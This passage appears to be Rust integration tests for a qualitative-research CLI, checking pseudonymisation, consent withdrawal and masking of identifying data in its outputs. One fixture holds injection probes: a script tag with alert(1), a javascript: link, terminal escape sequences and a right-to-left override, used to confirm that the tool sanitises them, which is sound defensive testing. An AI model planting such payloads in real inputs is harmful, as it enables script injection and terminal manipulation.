    fn refused_as_input(&self) -> String {
        assert_eq!(
            self.code, 2,
            "stdout:\n{}\nstderr:\n{}",
            self.stdout, self.stderr
        );
        assert!(self.stderr.contains("error: "), "{}", self.stderr);
        assert!(!self.stderr.contains("panicked"), "{}", self.stderr);
        assert_eq!(self.stdout, "");
        self.stderr.clone()
    }
}

#[test]
fn identifying_columns_are_shown_only_with_identified() {
    let s = trial();
    s.run(&["code"]).ok();
    assert_eq!(
        s.run(&["quote", "unpaid"]).ok(),
        "\
transcripts/N01.txt:2 — N01 (gender: man)
  codes: work/unpaid
  Never paid a cent, said Mr [narrator A]. The boss kept the wages.

transcripts/N02.txt:2 — N02 (gender: woman)
  codes: work/unpaid
  Nunca hubo pago en la finca de Hannay.
"
    );
    assert_eq!(
        s.run(&["quote", "unpaid", "--format", "csv"])
            .ok()
            .lines()
            .next(),
        Some("id,path,line,respondent,gender,codes,question,text")
    );
    let json = s.run(&["search", "paid", "--format", "json"]);
    assert!(!json.ok().contains("0770") && !json.stdout.contains("real_name"));
    let shown = s
        .run(&["quote", "unpaid", "--show", "phone"])
        .refused_as_input();
    assert!(
        shown.contains("--show phone: `phone` is declared `identifying:`"),
        "{shown}"
    );
    let identified = s.run(&["quote", "unpaid", "--identified", "--format", "csv"]);
    assert_eq!(
        identified.ok().lines().next(),
        Some("id,path,line,respondent,gender,phone,real_name,codes,question,text")
    );
    for args in [
        &["matrix", "--by", "real_name"][..],
        &["matrix", "--by", "phone", "--cell", "quote"],
        &["report", "--by", "phone"],
    ] {
        let err = s.run(args).refused_as_input();
        assert!(
            err.contains("is declared `identifying:` in thematic.yaml"),
            "{err}"
        );
        assert!(err.contains("--identified"), "{err}");
        assert!(!err.contains("0770") && !err.contains("Rawls"), "{err}");
    }
    let counts = s.run(&[
        "matrix",
        "--by",
        "real_name",
        "--identified",
        "--format",
        "csv",
    ]);
    assert_eq!(
        counts.ok().lines().next(),
        Some("code,Sam Rawls,Timo Hannay,total")
    );
    assert!(counts
        .stderr
        .contains("note: --identified: this output shows real names"));
}

#[test]
fn check_identifiers_lists_a_surname_the_key_file_has_only_with_the_first_name() {
    let s = trial();
    s.run(&["code"]).ok();
    let out = s.run(&["check-identifiers", "--format", "csv"]);
    assert_eq!(
        out.ok(),
        "excerpt,words\ntranscripts/N02.txt:2,Hannay\n",
        "{}",
        out.stderr
    );
}

#[test]
fn reanchor_skips_the_rows_of_a_withdrawn_respondent() {
    let s = trial();
    s.file("thematic.yaml", "interviewer: [Interviewer]\n");
    s.run(&["code"]).ok();
    let sheet = s.run(&["sheet", "--coder", "ana"]);
    // The coder marks every row, N04's too, and saves the sheet (its
    // last column is the code's).
    assert!(sheet.ok().lines().next().unwrap().ends_with(",work/unpaid"));
    let marked: String = sheet
        .ok()
        .lines()
        .enumerate()
        .map(|(i, l)| match i {
            0 => format!("{l}\n"),
            _ => format!("{l}x\n"),
        })
        .collect();
    assert!(marked.contains("transcripts/N04.txt:2,N04"), "{marked}");
    s.file("codings/ana.csv", &marked);
    s.file(
        "thematic.yaml",
        "interviewer: [Interviewer]\nwithdrawn: [N04]\n",
    );
    let r = s.run(&["reanchor"]);
    assert_eq!(r.ok(), "");
    assert!(
        r.stderr
            .contains("note: 1 coding-sheet row of respondents who withdrew consent skipped\n"),
        "{}",
        r.stderr
    );
    assert!(!r.stderr.contains("warning"), "{}", r.stderr);
    assert!(r
        .stderr
        .ends_with("every coding sits where its sheet says: nothing to rewrite\n"));
}

#[test]
fn a_withdrawn_respondents_chart_file_is_left_out_and_said_to_be_deleted() {
    let s = trial();
    s.file(
        "thematic.yaml",
        "interviewer: [Interviewer]\nidentifying: [real_name, phone]\n",
    );
    s.run(&["code"]).ok();
    assert_eq!(
        s.run(&["chart"]).ok(),
        "charts/N01.md: added work, work/unpaid\ncharts/N02.md: added work, work/unpaid\ncharts/N04.md: added work, work/unpaid\n"
    );
    // The first words in the comments carry the pseudonyms.
    let n04 = s.read("charts/N04.md");
    assert!(n04.contains("They paid my brother [narrator D]"), "{n04}");
    assert!(!n04.contains("Riser"), "{n04}");
    // A group file lists N04's excerpt beside N02's, and a summary cites it.
    assert_eq!(
        s.run(&["chart", "--by", "gender", "--theme", "work"]).ok(),
        "charts/by-gender/man.md: added work, work/unpaid\ncharts/by-gender/woman.md: added work, work/unpaid\n"
    );
    let women = s.read("charts/by-gender/woman.md");
    assert!(
        women.contains("[transcripts/N04.txt:2] They paid my brother"),
        "{women}"
    );
    s.file(
        "charts/by-gender/woman.md",
        &women.replacen(
            "-->\n",
            "-->\nNo pay; a brother was paid instead [transcripts/N04.txt:2].\n",
            2,
        ),
    );
    s.file(
        "thematic.yaml",
        "interviewer: [Interviewer]\nidentifying: [real_name, phone]\nwithdrawn: [N04]\n",
    );
    let warning = "warning: charts/N04.md: `N04` withdrew consent; this chart file is left out of every output, but it still holds their words and summaries: the team should delete it\n";
    let check = s.run(&["chart", "check"]);
    assert_eq!(check.code, 1, "{check:?}");
    assert_eq!(check.stderr.matches(warning).count(), 1, "{}", check.stderr);
    // Every line of the group file that names N04's excerpt is told.
    let group = s.read("charts/by-gender/woman.md");
    let lines: Vec<usize> = group
        .lines()
        .enumerate()
        .filter(|(_, l)| l.contains("transcripts/N04.txt:2"))
        .map(|(i, _)| i + 1)
        .collect();
    assert_eq!(lines.len(), 4, "{group}");
    for n in &lines {
        let told = format!("warning: charts/by-gender/woman.md:{n}: `transcripts/N04.txt:2` is no longer in the study: its transcript held the words of `N04`, who withdrew consent, and this line may quote or summarise them: the team should remove it (and rewrite the summary)\n");
        assert_eq!(check.stderr.matches(&told).count(), 1, "{}", check.stderr);
        let shown = s.run(&["matrix", "--cell", "summary", "--by", "gender"]);
        assert!(shown.stderr.contains(&told), "{}", shown.stderr);
    }
    assert!(!s.run(&["chart", "check"]).stderr.contains("N01.txt"));
    std::fs::remove_dir_all(s.path().join("charts/by-gender")).unwrap();
    let check = s.run(&["chart", "check"]);
    check.ok();
    assert_eq!(check.stderr.matches(warning).count(), 1, "{}", check.stderr);
    assert!(!check.stderr.contains("did you mean"), "{}", check.stderr);
    let summary = s.run(&["matrix", "--cell", "summary"]);
    summary.ok();
    assert_eq!(
        summary.stderr.matches(warning).count(),
        1,
        "{}",
        summary.stderr
    );
    assert_eq!(summary.stderr.matches("charts/N04.md").count(), 1);
    let add = s.run(&["chart", "--respondent", "N04"]).refused_as_input();
    assert!(
        add.contains("error: `N04` in --respondent withdrew consent"),
        "{add}"
    );
    assert!(!add.contains("did you mean"), "{add}");
    let identified = s.run(&[
        "chart",
        "--respondent",
        "N01",
        "--theme",
        "work",
        "--identified",
    ]);
    assert_eq!(
        identified.ok(),
        "nothing to add: every cell with excerpts has a section\n"
    );
}

#[test]
fn the_pseudonyms_log_counts_names_that_are_attribute_values() {
    let s = trial();
    s.run(&["code"]).ok();
    let log = s.run(&["pseudonyms", "log", "--format", "csv"]);
    assert_eq!(
        log.ok(),
        "\
term,replace,line,count,excerpts,respondents
Sam Rawls,[narrator A],1,1,,N01
Rawls,[narrator A],1,1,transcripts/N01.txt:2,
Timo Hannay,[narrator B],2,1,,N02
Susie Riser,[narrator D],3,0,,
John Riser,[narrator D],3,0,,
"
    );
    assert!(
        !log.stderr.contains("`Sam Rawls` matches nothing"),
        "{}",
        log.stderr
    );
    assert!(
        !log.stderr.contains("`Timo Hannay` matches nothing"),
        "{}",
        log.stderr
    );
    // N04 withdrew: their name and words are in nothing the study shows.
    assert!(
        log.stderr.contains("`Susie Riser` matches nothing"),
        "{}",
        log.stderr
    );
}

#[test]
fn transcripts_show_a_withdrawn_respondents_file_as_withdrawn_in_every_format() {
    let s = trial();
    s.run(&["code"]).ok();
    let csv = s.run(&["transcripts", "--format", "csv"]);
    assert!(
        csv.ok().contains("\ntranscripts/N04.txt,(withdrawn),"),
        "{}",
        csv.stdout
    );
    let table = s.run(&["transcripts"]);
    assert!(
        table
            .ok()
            .lines()
            .any(|l| l.contains("transcripts/N04.txt") && l.contains("(withdrawn)")),
        "{}",
        table.stdout
    );
    let md = s.run(&["transcripts", "--format", "markdown"]);
    assert!(
        md.ok().contains("| transcripts/N04.txt | (withdrawn) |"),
        "{}",
        md.stdout
    );
    let json = s.run(&["transcripts", "--format", "json"]);
    assert!(json.ok().contains("\"respondent\": \"(withdrawn)\""));
}

/// A key-file name only a withdrawn respondent said matches nothing any
/// more: the warning says why, so that the entry is kept.
#[test]
fn the_pseudonyms_log_says_an_unmatched_name_may_be_a_withdrawn_respondents() {
    let s = consent();
    s.file(
        "pseudonyms.yaml",
        "- {find: [Eulalia], replace: \"[a sister]\"}\n",
    );
    owner_only(&s, "pseudonyms.yaml");
    let before = s.run(&["pseudonyms", "log"]);
    assert!(
        !before.stderr.contains("matches nothing"),
        "{}",
        before.stderr
    );
    s.replace("respondents.csv", "R07,survivor,\n", "R07,survivor,yes\n");
    let after = s.run(&["pseudonyms", "log"]);
    assert!(
        after.stderr.contains(
            "warning: pseudonyms.yaml:1: `Eulalia` matches nothing in the study; check its spelling (or it is only in the words of respondents who withdrew consent, which are no longer read: keep the entry)"
        ),
        "{}",
        after.stderr
    );
}

/// An identifying value the key file misses is masked as `[COLUMN]` in what
/// is read on the spot (quote, search, matrix cells); report and export
/// refuse it instead, so that the key file gets a pseudonym for it.
#[test]
fn identifying_values_in_free_text_are_masked_where_nothing_refuses() {
    let s = named();
    s.file("thematic.yaml", "identifying: [village, phone]\n")
        .file(
            "respondents.csv",
            "id,role,village,phone\nR01,survivor,Mazuko,+51 984 000 111\nR02,survivor,,\n",
        )
        .replace(
            "transcripts/r02.txt",
            "The pastor",
            "The pastor from Mazuko (call +51 984 000 111)",
        );
    s.run(&["code"]).ok();
    for args in [
        &["quote", "support", "--format", "csv"][..],
        &["search", "pastor"],
        &["matrix", "--cell", "quote", "--format", "json"],
    ] {
        let out = s.run(args).ok().to_string();
        assert!(
            out.contains("The pastor from [village] (call +[phone])"),
            "{args:?}: {out}"
        );
        assert!(
            !out.contains("Mazuko") && !out.contains("984"),
            "{args:?}: {out}"
        );
    }
    // Export still refuses, naming the excerpt and the value.
    let run = s.run(&["export", "--format", "csv"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    // A misspelt identifying column cannot become the matrix's headings.
    s.file("thematic.yaml", "identifying: [village, phones]\n");
    let run = s.run(&["matrix", "--by", "phone", "--format", "csv"]);
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(run.stdout.is_empty(), "{}", run.stdout);
    assert!(run.stderr.contains("thematic.yaml:1:"), "{}", run.stderr);
}

#[test]
fn search_highlights_survive_pseudonyms_but_not_on_a_replaced_name() {
    let s = named();
    s.run(&["code"]).ok();
    // `apoyó` is highlighted where it moved to; `Rosa`, replaced, is not
    // (a highlighted pseudonym would tell that the query named her).
    let out = s.run(&["search", "apoyó OR Rosa", "--color", "always"]);
    assert!(
        out.ok().contains(
            "Mi prima [survivor, 19] me \x1b[1;33mapoyó\x1b[0m. [survivor, 19] me buscó en \
             [a mining town]."
        ),
        "{:?}",
        out.stdout
    );
    assert!(!identifies(&out.stdout), "{}", out.stdout);
}

#[test]
fn respondents_csv_rows_in_no_transcript_are_warned_about_and_a_misspelt_withdrawal_refused() {
    let s = consent();
    s.run(&["code"]).ok();
    // `R7` for R07, in a row that withdraws consent: R07's words would be
    // published under a note that one respondent is withheld.
    s.file(
        "respondents.csv",
        "id,role,withdrawn\nR01,survivor,\nR02,survivor,no\nR03,relative,\nR7,survivor,yes\n",
    );
    let expected = "error: respondent `R7` withdraws consent here but is in no transcript, while `R07` is: `R07`'s words would stay in every output\n  --> respondents.csv:5\n  = help: write the id as the transcripts have it (`R07`), or mark `R07` in thematic.yaml (`withdrawn: [R07]`)\n";
    assert_eq!(s.run(&["code"]).bad_input(), expected);
    let quote = s.run(&["quote", "family", "--format", "csv"]);
    assert_eq!(quote.code, 2);
    assert_eq!(quote.stdout, "");
    assert_eq!(
        quote.stderr,
        format!("note: index out of date (the respondents who withdrew consent changed); updating\n{expected}")
    );
    // With R07 withdrawn in thematic.yaml nothing is at stake: a warning.
    s.file(
        "thematic.yaml",
        "interviewer: [Interviewer, Entrevistadora, Moderadora]\nwithdrawn: [R07]\n",
    );
    let code = s.run(&["code"]);
    code.ok();
    assert!(
        code.stderr.starts_with(
            "warning: respondents.csv:5: respondent `R7`, marked withdrawn, is in no transcript; did you mean `R07`?\n"
        ),
        "{}",
        code.stderr
    );
    // Any row whose id no transcript has is a warning, told by every
    // command that reads the index, as `withdrawn:` typos are.
    s.file(
        "thematic.yaml",
        "interviewer: [Interviewer, Entrevistadora, Moderadora]\n",
    );
    s.file(
        "respondents.csv",
        "id,role,withdrawn\nR01,survivor,\nR2,survivor,\nR03,relative,\nR07,survivor,\nX99,relative,yes\n",
    );
    let code = s.run(&["code"]);
    code.ok();
    assert!(
        code.stderr.starts_with(
            "warning: respondents.csv:3: respondent `R2` is in no transcript; did you mean `R02`?\nwarning: respondents.csv:6: respondent `X99`, marked withdrawn, is in no transcript\n"
        ),
        "{}",
        code.stderr
    );
    // A reading command repeats the one about a withdrawal (the respondent
    // meant may still be in every output), as it does `withdrawn:` typos.
    let quote = s.run(&["quote", "family", "--format", "csv"]);
    quote.ok();
    assert_eq!(
        quote.stderr,
        // No note that one is withheld: X99 is no one's id, so no one is.
        "warning: respondents.csv:6: respondent `X99`, marked withdrawn, is in no transcript\n"
    );
}

#[test]
fn a_survey_respondent_without_answers_is_no_unmatched_row() {
    let s = Study::empty();
    s.file(
        "codebooks/main.yaml",
        "themes:\n  - id: inst\n    codes:\n      - id: police\n        match: {any: [policia*]}\n",
    )
    .file("thematic.yaml", "csv: {id: id, answers: [p1]}\n")
    .file(
        "transcripts/s.csv",
        "id,prov,p1\nE01,Cusco,La policía\nE02,Puno,\n",
    )
    .file("respondents.csv", "id,role\nE01,a\nE02,b\nE3,c\n");
    let code = s.run(&["code", "--format", "csv"]);
    code.ok();
    assert!(
        code.stderr.starts_with(
            "warning: respondents.csv:4: respondent `E3` is in no transcript; did you mean `E01`?\ncoded "
        ),
        "{}",
        code.stderr
    );
}

#[test]
fn a_settings_path_to_a_missing_key_or_respondents_file_is_an_error_with_the_closest_name() {
    let s = named();
    s.file("keys/pseudonyms.yaml", KEY).file(
        "thematic.yaml",
        "language: spanish\npseudonyms: keys/pseudonym.yaml\n",
    );
    for args in [
        &["code"][..],
        &["quote", "support"],
        &["export", "--format", "csv"],
    ] {
        let run = s.run(args);
        assert_eq!(run.code, 2, "{args:?}");
        assert_eq!(
            run.stderr,
            "error: `pseudonyms:` names `keys/pseudonym.yaml`, which does not exist\n  --> \
             thematic.yaml:2\n  = help: did you mean `keys/pseudonyms.yaml`? (fix `pseudonyms:` \
             in thematic.yaml)\n"
        );
        assert!(run.stdout.is_empty());
    }
    s.file("thematic.yaml", "respondents: meta.csv\n");
    let run = s.run(&["code"]);
    assert_eq!(run.code, 2);
    assert!(
        run.stderr.starts_with(
            "error: `respondents:` names `meta.csv`, which does not exist\n  --> thematic.yaml:1\n"
        ),
        "{}",
        run.stderr
    );
    // The default names may be absent.
    s.file("thematic.yaml", "language: spanish\n");
    s.remove("pseudonyms.yaml");
    assert_eq!(s.run(&["code"]).code, 0);
}

#[test]
fn memo_titles_are_pseudonymised_in_quotes_and_the_codebook() {
    let s = named();
    s.file(
        "memos/m.md",
        "---\nabout: [support]\n---\n# Rosa Quispe: help came from family\n",
    );
    s.run(&["code"]).ok();
    let quote = s.run(&["quote", "support", "--memos", "--format", "json"]);
    assert!(
        quote
            .ok()
            .contains("\"title\": \"[survivor, 19]: help came from family\""),
        "{}",
        quote.stdout
    );
    let show = s.run(&["codebook", "show", "--format", "markdown"]);
    assert!(
        show.ok()
            .contains("\\[survivor, 19\\]: help came from family (`memos/m.md`)"),
        "{}",
        show.stdout
    );
    assert!(!identifies(&quote.stdout) && !identifies(&show.stdout));
}

#[test]
fn a_withdrawn_respondents_label_read_as_someone_elses_words_is_refused() {
    let s = Study::empty();
    s.file("codebooks/main.yaml", "codebook: t\nthemes:\n  - id: viaje\n    label: Viaje\n    codes:\n      - id: oferta\n        label: Oferta\n        match:\n          any: [trabajo]\n")
        // Two speakers in a file named for a place: both read as `puno`.
        .file(
            "transcripts/puno.txt",
            "Entrevistadora: ¿Cómo llegaron a Puno?\nR03: Me ofrecieron trabajo en una tienda.\nR05: A mí también me ofrecieron trabajo.\n",
        )
        // A focus group whose `speakers:` leave out R3 (R03 written another
        // way): the line is kept as text inside Ana's turn.
        .file(
            "transcripts/grupo.txt",
            "---\nspeakers: {Ana: R07, Luz: R08}\n---\nEntrevistadora: ¿Y después?\nAna: Nos llevaron a buscar trabajo.\nR3: Yo no quería ir.\nLuz: Yo tampoco.\n",
        )
        .file("respondents.csv", "id,withdrawn\nR05,\nR07,\nR08,\n");
    s.run(&["code"]).ok();
    // R03 withdraws: her words would stay under `R07` and `puno`.
    s.file(
        "respondents.csv",
        "id,withdrawn\nR03,yes\nR05,\nR07,\nR08,\n",
    );
    let quote = s.run(&["quote", "oferta", "--format", "csv"]);
    assert_eq!(quote.code, 2);
    assert_eq!(quote.stdout, "");
    assert_eq!(
        quote.stderr,
        "note: index out of date (the respondents who withdrew consent changed); updating\n\
         error: the line starting `R3:` is kept as text inside another speaker's turn (the label \
         is not in `speakers:`), but `R3` is respondent `R03`, who withdrew consent: those words \
         would be in every output\n  --> transcripts/grupo.txt:6\n  = help: add `R3: R03` to the \
         front matter's `speakers:`, so that the turn is withheld; or remove it from the \
         transcript\n"
    );
    s.file(
        "transcripts/grupo.txt",
        "---\nspeakers: {Ana: R07, Luz: R08, R3: R03}\n---\nEntrevistadora: ¿Y después?\nAna: Nos llevaron a buscar trabajo.\nR3: Yo no quería ir.\nLuz: Yo tampoco.\n",
    );
    assert_eq!(
        s.run(&["code"]).bad_input(),
        "error: the turns labelled `R03:` are read as respondent `puno`'s words, but `R03` names \
         a respondent who withdrew consent: under `puno` those words would be in every output\n  \
         --> transcripts/puno.txt:2\n  = help: map the label in this file's front matter \
         (`speakers: {R03: R03}`, with the file's other speakers), so that its turns are \
         withheld; or remove them from the transcript\n"
    );
    // Mapped, her turns are withheld and R05's stay.
    s.file(
        "transcripts/puno.txt",
        "---\nspeakers: {R03: R03, R05: R05}\n---\nEntrevistadora: ¿Cómo llegaron a Puno?\nR03: Me ofrecieron trabajo en una tienda.\nR05: A mí también me ofrecieron trabajo.\n",
    );
    let quote = s.run(&["quote", "oferta", "--format", "csv"]);
    quote.ok();
    assert!(!quote.stdout.contains("tienda"), "{}", quote.stdout);
    assert!(quote.stdout.contains("A mí también"), "{}", quote.stdout);
    assert!(!quote.stdout.contains("R03"), "{}", quote.stdout);
}

#[test]
fn a_withdrawn_speaker_of_a_caption_file_is_refused_with_the_settings_fix() {
    let s = Study::empty();
    s.file("codebooks/main.yaml", "themes:\n  - id: t\n    codes:\n      - id: trabajo\n        match: {any: [trabajo]}\n")
        .file(
            "transcripts/ep03.srt",
            "1\n00:00:01,000 --> 00:00:02,000\nInterviewer: ¿Y luego?\n\n2\n00:00:03,000 --> 00:00:05,000\nR03: Me ofrecieron trabajo.\n\n3\n00:00:06,000 --> 00:00:08,000\nR05: Y a mí un trabajo en Lima.\n",
        )
        .file("thematic.yaml", "withdrawn: [R03]\n");
    assert_eq!(
        s.run(&["code"]).bad_input(),
        "error: the turns of `R03` (from cue 2) are read as respondent `ep03`'s words, but `R03` \
         names a respondent who withdrew consent: under `ep03` those words would be in every \
         output\n  --> transcripts/ep03.srt\n  = help: map the speaker in thematic.yaml \
         (`speakers: {transcripts/ep03.srt: {R03: R03}}`, with the file's other speakers), so \
         that those turns are withheld; or remove them from the file\n"
    );
    s.file(
        "thematic.yaml",
        "withdrawn: [R03]\nspeakers:\n  transcripts/ep03.srt: {R03: R03, R05: R05}\n",
    );
    let quote = s.run(&["quote", "trabajo", "--format", "csv"]);
    quote.ok();
    assert!(!quote.stdout.contains("Me ofrecieron"), "{}", quote.stdout);
    assert!(quote.stdout.contains(",R05,"), "{}", quote.stdout);
}

/// A study whose respondent's name hides invisible characters and whose
/// text carries markup, escape sequences and a right-to-left override.
fn hidden_marks() -> Study {
    let s = Study::empty();
    s.file(
        "codebooks/main.yaml",
        "\
codebook: Marks
themes:
  - id: harm
    label: Harm
    codes:
      - id: violence
        label: Violence
        match:
          any: [police]
",
    )
    .file(
        "pseudonyms.yaml",
        "- {find: [María Quispe, María], replace: \"[survivor A]\"}\n",
    )
    .file("respondents.csv", "id,region\nR01,<b>Cusco</b>\n")
    .file(
        "transcripts/R01.txt",
        "Interviewer: ¿Qué pasó?\n\
         R01: The police <script>alert(1)</script> said *nothing* [help](javascript:x).\n\n\
         R01: Ma\u{ad}ría went to the police. Ma\u{200b}ría Quis\u{2060}pe too.\n\n\
         R01: The police\u{1b}]0;pwned\u{7} took my \u{202e}papers and left.\n",
    )
    .file(
        "memos/m.md",
        "---\nabout: [harm/violence]\n---\n# Police \u{1b}[2Jvisits\n",
    );
    std::fs::set_permissions(
        s.path().join("pseudonyms.yaml"),
        std::os::unix::fs::PermissionsExt::from_mode(0o600),
    )
    .unwrap();
    s.run(&["code"]).ok();
    s
}

#[test]
fn names_with_invisible_characters_are_replaced_and_never_leak() {
    let s = hidden_marks();
    let quote = s
        .run(&["quote", "violence", "--format", "csv"])
        .ok()
        .to_string();
    assert!(
        quote.contains("[survivor A] went to the police. [survivor A] too."),
        "{quote}"
    );
    for out in [
        quote,
        s.run(&["report", "--date", "2026-01-01"]).ok().to_string(),
        s.run(&["export", "--format", "ndjson"]).ok().to_string(),
    ] {
        let seen: String = out
            .chars()
            .filter(|c| !matches!(c, '\u{ad}' | '\u{200b}' | '\u{2060}'))
            .collect();
        assert!(!seen.contains("María") && !seen.contains("Quispe"), "{out}");
    }
}

#[test]
fn text_for_people_carries_no_controls_overrides_or_markup() {
    let s = hidden_marks();
    for args in [
        &["report", "--date", "2026-01-01"][..],
        &["report", "--date", "2026-01-01", "--format", "markdown"],
        &["quote", "violence", "--memos"],
        &["quote", "violence", "--memos", "--format", "markdown"],
        &["search", "police", "--memos"],
    ] {
        let out = s.run(args).ok().to_string();
        assert!(
            !out.contains(['\u{1b}', '\u{7}', '\u{202e}']),
            "{args:?}: {out:?}"
        );
        assert!(out.contains("took my papers and left"), "{args:?}: {out}");
    }
    // Markdown shows study text literally, as the report's Markdown does.
    let md = s.run(&["quote", "violence", "--memos", "--format", "markdown"]);
    assert!(
        md.ok().contains(
            "> The police \\<script\\>alert(1)\\</script\\> said \\*nothing\\* \
             \\[help\\](javascript:x).\n>\n> — R01, \\<b\\>Cusco\\</b\\> (`transcripts/R01.txt:2`)\n"
        ),
        "{}",
        md.stdout
    );
    assert!(
        md.stdout.contains("*Memo:* Police visits (`memos/m.md`)"),
        "{}",
        md.stdout
    );
    let table = s.run(&["matrix", "--by", "region", "--format", "markdown"]);
    assert!(
        table
            .ok()
            .starts_with("| code \\ region | \\<b\\>Cusco\\</b\\> (n=1) |"),
        "{}",
        table.stdout
    );
    let cells = s.run(&["matrix", "--cell", "quote", "--format", "markdown"]);
    assert!(
        !cells.ok().contains("<script>") && cells.stdout.contains("\\<script\\>"),
        "{}",
        cells.stdout
    );
}

#[test]
fn a_memo_about_a_respondent_who_withdrew_is_left_out_and_their_label_forgotten() {
    let s = Study::empty();
    s.file(
        "codebooks/main.yaml",
        "codebook: X\nthemes:\n  - id: harm\n    label: Harm\n    codes:\n      - id: violence\n        label: Violence\n        match: {any: [police]}\n",
    )
    .file(
        "transcripts/fg.txt",
        "---\nspeakers: {Juana: R03, Rosalind: R04}\n---\nModerator: Q?\nJuana: The police came.\n\nRosalind: The police beat me.\n",
    )
    .file(
        "memos/m.md",
        "---\nabout: [harm/violence, R04]\n---\n# Rosalind: the police beat her\n",
    )
    .file("memos/other.md", "---\nabout: [harm/violence]\n---\n# Police visits\n")
    .file("thematic.yaml", "withdrawn: [R04]\n");
    s.run(&["code"]).ok();
    for args in [
        &["quote", "violence", "--memos"][..],
        &["quote", "violence", "--memos", "--format", "json"],
        &["codebook", "show", "--format", "markdown"],
    ] {
        let r = s.run(args);
        assert!(
            !r.ok().contains("Rosalind") && r.stdout.contains("Police visits"),
            "{args:?}: {}",
            r.stdout
        );
    }
    let quote = s.run(&["quote", "violence", "--memos"]);
    assert!(
        quote.stderr.contains(
            "warning: `about:` names `R04`, who withdrew consent: the memo may hold their words, so it is left out of every output\n  --> memos/m.md:2\n"
        ),
        "{}",
        quote.stderr
    );
    // Her label (often a first name) is not kept in the index's files.
    let mut files = vec![s.path().join(".thematic")];
    while let Some(p) = files.pop() {
        if p.is_dir() {
            files.extend(std::fs::read_dir(&p).unwrap().map(|e| e.unwrap().path()));
        } else {
            let bytes = std::fs::read(&p).unwrap();
            assert!(
                !bytes.windows(8).any(|w| w == b"Rosalind"),
                "{}",
                p.display()
            );
        }
    }
}

#[test]
fn ids_and_labels_are_read_as_a_reader_sees_them() {
    let s = Study::empty();
    s.file(
        "codebooks/main.yaml",
        "codebook: X\nthemes:\n  - id: harm\n    label: Harm\n    codes:\n      - id: violence\n        label: Violence\n        match: {any: [police]}\n",
    )
    // Her label pasted with a soft hyphen, another's in fullwidth letters.
    .file(
        "transcripts/fg.txt",
        "---\nspeakers: {Ana: R03, Rosalind: R04}\n---\nModerator: Q?\nAna: The police came.\n\nRo\u{ad}salind: KANGAROO the police beat me.\n\n\u{ff21}na: The police left.\n",
    )
    .file("thematic.yaml", "withdrawn: [R04]\n");
    s.run(&["code"]).ok();
    let quote = s.run(&["quote", "violence", "--format", "csv"]);
    assert!(!quote.ok().contains("KANGAROO"), "{}", quote.stdout);
    assert_eq!(quote.stdout.matches(",R03,").count(), 2, "{}", quote.stdout);
    // A withdrawal written in fullwidth characters is the id it shows.
    let s = Study::empty();
    s.file(
        "codebooks/main.yaml",
        "codebook: X\nthemes:\n  - id: harm\n    label: Harm\n    codes:\n      - id: violence\n        label: Violence\n        match: {any: [police]}\n",
    )
    .file("transcripts/R01.txt", "Interviewer: Q?\nR01: The police came.\n")
    .file("thematic.yaml", "withdrawn: [\u{ff32}\u{ff10}\u{ff11}]\n");
    let err = s.run(&["code"]).bad_input().to_string();
    assert!(
        err.contains("who is in no transcript, while `R01` is"),
        "{err}"
    );
}

#[test]
fn a_memo_naming_a_withdrawn_respondent_another_way_or_their_excerpt_is_left_out() {
    let s = Study::empty();
    s.file(
        "codebooks/main.yaml",
        "codebook: X\nthemes:\n  - id: harm\n    label: Harm\n    codes:\n      - id: violence\n        label: Violence\n        match: {any: [police]}\n",
    )
    .file("transcripts/R03.txt", "Interviewer: Q?\nR03: The police came.\n")
    .file("transcripts/R04.txt", "Interviewer: Q?\nR04: KANGAROO the police beat me.\n")
    .file("memos/a.md", "---\nabout: [harm/violence, transcripts/R04.txt:2]\n---\n# KANGAROO a\n")
    .file("memos/b.md", "---\nabout: [harm/violence, r04]\n---\n# KANGAROO b\n")
    .file("memos/c.md", "---\nabout: [harm, R4]\n---\n# KANGAROO c\n")
    .file("memos/e.md", "---\nabout: [harm, transcripts/R04.txt]\n---\n# KANGAROO e\n")
    .file("memos/f.md", "---\nabout: [harm, transcripts/r04.txt:2]\n---\n# KANGAROO f\n")
    .file("memos/g.md", "---\nabout: [harm, R04.txt:2]\n---\n# KANGAROO g\n")
    .file("memos/d.md", "---\nabout: [harm/violence, R03]\n---\n# Police visits\n")
    .file("thematic.yaml", "withdrawn: [R04]\n");
    s.run(&["code"]).ok();
    for args in [
        &["quote", "violence", "--memos"][..],
        &["codebook", "show", "--format", "markdown"],
    ] {
        let r = s.run(args);
        assert!(
            !r.ok().contains("KANGAROO") && r.stdout.contains("Police visits"),
            "{args:?}: {}",
            r.stdout
        );
    }
    let stderr = s.run(&["quote", "violence", "--memos"]).stderr;
    for told in [
        "`about:` names `transcripts/R04.txt:2`, the transcript of `R04`, who withdrew consent",
        "`about:` names `transcripts/R04.txt`, the transcript of `R04`, who withdrew consent",
        "`about:` names `transcripts/r04.txt:2`, the transcript of `R04`, who withdrew consent",
        "`about:` names `R04.txt:2`, the transcript of `R04`, who withdrew consent",
        "`about:` names `r04`, which is `R04` written another way, who withdrew consent",
        "`about:` names `R4`, which is `R04` written another way, who withdrew consent",
    ] {
        assert!(stderr.contains(told), "{told}\n{stderr}");
    }
    assert!(!stderr.contains("did you mean `R03`"), "{stderr}");
    // `chart check` refuses them, at their lines.
    let check = s.run(&["chart", "check"]);
    assert_eq!(check.code, 2, "{}", check.stderr);
    assert!(
        check.stderr.contains("--> memos/a.md:2"),
        "{}",
        check.stderr
    );
}

#[test]
fn a_summary_whose_citation_is_no_id_or_hides_a_withdrawn_excerpt_is_left_out() {
    let s = Study::empty();
    s.file(
        "codebooks/main.yaml",
        "codebook: X\nthemes:\n  - id: harm\n    label: Harm\n    codes:\n      - id: violence\n        label: Violence\n        match: {any: [police]}\n",
    )
    .file(
        "transcripts/fg.txt",
        "---\nspeakers: {Ana: R03, Bea: R04}\n---\nModerator: Q?\nAna: The police came.\n\nBea: KANGAROO the police beat me.\n",
    )
    // Her excerpt's id pasted with a zero-width space; another citation
    // that is no id at all.
    .file(
        "charts/R03.md",
        "# R03\n\n## harm\nAna agrees with Bea, who said KANGAROO [transcripts/fg.txt:\u{200b}7].\n\n## harm/violence\nAna saw WOMBAT [fg:5].\n",
    )
    .file("thematic.yaml", "withdrawn: [R04]\n");
    s.run(&["code"]).ok();
    for args in [
        &["matrix", "--cell", "summary", "--format", "json"][..],
        &["report", "--format", "markdown", "--date", "2026-01-01"],
    ] {
        let r = s.run(args);
        let out = r.ok();
        assert!(
            !out.contains("KANGAROO") && !out.contains("WOMBAT"),
            "{args:?}: {out}"
        );
        assert!(
